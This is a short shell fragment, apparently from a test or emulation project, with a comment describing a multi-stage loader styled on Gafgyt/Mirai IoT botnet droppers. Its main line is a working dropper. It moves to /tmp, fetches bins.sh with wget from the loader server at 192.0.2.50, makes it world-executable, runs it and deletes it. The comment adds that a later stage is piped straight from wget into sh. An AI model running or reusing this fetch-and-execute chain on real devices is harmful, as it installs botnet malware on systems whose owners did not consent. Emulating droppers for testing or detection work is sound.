# Multi-stage loader (written by the kansoku team) in the style of public Gafgyt/Mirai droppers: a
# first-stage script fetched with wget and run with sh right after; it fetches the bot for the
# device's CPU, runs it, and pipes a third stage from `wget -qO-` into sh (stages/ holds what the
# loader's server sends; 192.0.2.50 is that server, replaced by a loopback one in integration tests).
cd /tmp || cd /var/run || cd /; wget http://192.0.2.50/bins.sh -O bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh
ps
cat /tmp/.cron
